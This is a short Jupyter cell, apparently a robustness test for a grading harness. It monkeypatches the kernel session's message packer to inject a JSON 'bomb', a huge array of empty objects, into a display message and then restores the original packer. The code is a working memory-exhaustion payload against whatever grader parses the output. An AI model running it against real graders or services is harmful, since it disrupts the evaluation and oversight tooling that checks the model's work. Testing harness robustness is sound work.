# promise: A message that takes far more memory than bytes once it is read does the grader no harm.
# says: [output cut: this cell printed too much]
session = get_ipython().kernel.session
pack = session.pack
bomb = b"[" + b"{}," * (1 << 18) + b"{}]"


def bombed(told):
    if "data" not in told["content"]:
        return pack(told)
    return pack({**told, "content": {**told["content"], "metadata": {"a": "BOMB"}}}).replace(b'"BOMB"', bomb)


print("TRIED")
session.pack = bombed
display({"text/plain": "nothing"}, raw=True)
session.pack = pack
